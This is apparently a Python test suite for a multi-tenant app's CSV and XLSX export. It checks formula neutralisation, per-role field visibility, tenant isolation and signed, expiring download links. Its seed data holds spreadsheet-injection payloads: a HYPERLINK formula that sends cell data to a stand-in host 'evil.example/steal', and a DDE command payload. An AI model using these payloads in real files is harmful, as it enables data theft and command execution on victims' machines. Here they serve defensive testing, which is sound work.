"""Exports to CSV and XLSX: the caller's records and fields only, formula cells neutralised, a
signed expiring link, an audit entry, and nothing for another tenant."""

from __future__ import annotations

import csv
import io
import time
import uuid

import openpyxl
from strawberry import relay

from domain.files.links import download_link
from tests.support.custom import make_field
from tests.support.graphql import gql
from tests.support.jobs import run_queued_jobs

EXPORT = "mutation($input: ExportRecordsInput!) { exportRecords(input: $input) { id status } }"
LINK = "query($id: ID!) { downloadLink(jobId: $id) { url expiresAt } }"
JOB = "query($id: ID!) { job(id: $id) { status result error progressDone progressTotal } }"
BULK = "mutation($input: BulkCreateLeadsInput!) { bulkCreateLeads(input: $input) { id } }"
ACCESS = "mutation($input: SetFieldAccessInput!) { setFieldAccess(input: $input) { field } }"
EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1, "Click")'


def marker() -> str:
    return "x" + uuid.uuid4().hex[:10]


async def export(client, token: str, **input) -> tuple[dict, bytes]:
    started = await gql(client, EXPORT, {"input": input}, token=token)
    job_id = started.data["exportRecords"]["id"]
    await run_queued_jobs()
    job = (await gql(client, JOB, {"id": job_id}, token=token)).data["job"]
    assert job["status"] == "SUCCEEDED", job
    link = (await gql(client, LINK, {"id": job_id}, token=token)).data["downloadLink"]
    response = await client.get(link["url"])  # no bearer token: the link is the credential
    assert response.status_code == 200, response.text
    return {**job, "id": job_id, "url": link["url"]}, response.content


async def seed(client, token: str, region: str) -> None:
    items = [
        {"personName": EVIL, "companyName": "+cmd|' /C calc'!A0", "region": region, "score": 1},
        {"personName": "@SUM(1+1)", "companyName": "-2+3", "region": region, "score": 2},
        {"personName": "Plain Ann", "companyName": "=1+1", "region": region, "score": 3},
    ]
    await gql(client, BULK, {"input": {"items": items}}, token=token)


async def test_a_csv_export_holds_the_filtered_rows_with_formula_cells_as_text(
    client, as_alpha, owner_db
):
    admin, region = as_alpha["admin"], marker()
    await seed(client, admin, region)
    job, content = await export(
        client,
        admin,
        object="Lead",
        filter={"field": "region", "eq": region},
        fields=["personName", "companyName", "score"],
        format="CSV",
    )
    assert (job["result"]["rows"], job["progressDone"], job["progressTotal"]) == (3, 3, 3)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["personName", "companyName", "score"]
    assert sorted(rows[1:]) == sorted(
        [
            ["'" + EVIL, "'+cmd|' /C calc'!A0", "1"],
            ["'@SUM(1+1)", "'-2+3", "2"],
            ["Plain Ann", "'=1+1", "3"],
        ]
    )
    audit = await owner_db.fetchrow(
        "SELECT action, changes FROM audit_event WHERE record_type = 'Job' AND record_id = $1",
        uuid.UUID(relay.GlobalID.from_id(job["id"]).node_id),
    )
    assert audit["action"] == "exported"


async def test_an_xlsx_export_keeps_formula_text_as_strings(client, as_alpha):
    admin, region = as_alpha["admin"], marker()
    await seed(client, admin, region)
    _, content = await export(
        client,
        admin,
        object="Lead",
        filter={"field": "region", "eq": region},
        fields=["personName", "score"],
        format="XLSX",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
    assert (
        cells[EVIL] == "s" and cells["@SUM(1+1)"] == "s"
    )  # the exact text, stored as a string, never a formula
    assert [c.value for c in next(sheet.iter_rows(max_row=1))] == ["personName", "score"]


async def test_an_export_holds_only_the_records_and_fields_the_caller_may_see(
    client, as_alpha, user_ids
):
    admin, member, region = as_alpha["admin"], as_alpha["member"], marker()
    await seed(client, admin, region)  # owned by the admin: the member does not see them
    await gql(
        client,
        BULK,
        {"input": {"items": [{"personName": "Mine", "region": region, "score": 9}]}},
        token=member,
    )
    _, content = await export(
        client, member, object="Lead", filter={"field": "region", "eq": region}, format="CSV"
    )
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r["personName"] for r in rows] == ["Mine"]
    secret = "secret_" + uuid.uuid4().hex[:6]
    await make_field(client, admin, "Lead", apiName=secret, type="TEXT")
    try:
        hid = await gql(
            client,
            ACCESS,
            {
                "input": {
                    "object": "Lead",
                    "field": "customFields." + secret,
                    "role": "MEMBER",
                    "access": "HIDDEN",
                }
            },
            token=admin,
        )
        assert hid.data["setFieldAccess"] is not None
        refused = await gql(
            client,
            EXPORT,
            {"input": {"object": "Lead", "fields": ["personName", "customFields." + secret]}},
            token=member,
        )
        assert refused.codes == ["BAD_USER_INPUT"]
        assert (
            refused.errors[0]["extensions"]["fieldErrors"][0]["field"]
            == "fields.customFields." + secret
        )
        _, content = await export(
            client, member, object="Lead", filter={"field": "region", "eq": region}, format="CSV"
        )
        header = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert "customFields." + secret not in header and "personName" in header
        _, content = await export(
            client, admin, object="Lead", filter={"field": "region", "eq": region}, format="CSV"
        )
        assert "customFields." + secret in next(
            csv.reader(io.StringIO(content.decode("utf-8-sig")))
        )
    finally:  # shared tenant: leave the member's field rules as they were
        await gql(
            client,
            ACCESS,
            {
                "input": {
                    "object": "Lead",
                    "field": "customFields." + secret,
                    "role": "MEMBER",
                    "access": "EDITABLE",
                }
            },
            token=admin,
        )


async def test_another_tenant_gets_no_link_and_links_cannot_be_forged_or_outlive_their_expiry(
    client, as_alpha, as_beta, tenants
):
    admin, region = as_alpha["admin"], marker()
    await seed(client, admin, region)
    job, _ = await export(
        client, admin, object="Lead", filter={"field": "region", "eq": region}, format="CSV"
    )
    assert (await gql(client, LINK, {"id": job["id"]}, token=as_beta["admin"])).codes == [
        "NOT_FOUND"
    ]
    assert (await gql(client, LINK, {"id": job["id"]}, token=as_alpha["member"])).codes == [
        "NOT_FOUND"
    ]
    file_id = uuid.UUID(job["result"]["fileId"])
    forged = download_link(
        uuid.UUID(tenants["beta"].id), file_id
    ).path  # beta's tenant with alpha's file: no such file there
    assert (await client.get(forged)).status_code == 404
    token = job["url"].rsplit("/", 1)[1]
    tampered = job["url"][: -len(token)] + token[:-2] + ("AA" if not token.endswith("AA") else "BB")
    assert (await client.get(tampered)).status_code == 404
    expired = download_link(
        uuid.UUID(tenants["alpha"].id), file_id, now=time.time() - 7 * 86400
    ).path
    assert (await client.get(expired)).status_code == 404
    bad = await gql(
        client,
        EXPORT,
        {"input": {"object": "Lead", "filter": {"field": "shoeSize", "eq": 1}}},
        token=admin,
    )
    assert bad.codes == ["BAD_USER_INPUT"]


def test_every_cell_start_a_spreadsheet_runs_is_neutralised():
    from domain.exports.cells import neutral

    # Tabs and carriage returns cannot reach a stored text value (they are trimmed), but a cell
    # starting with one is made text all the same.
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert neutral(text) == "'" + text
    assert neutral("Ann = Bob") == "Ann = Bob"
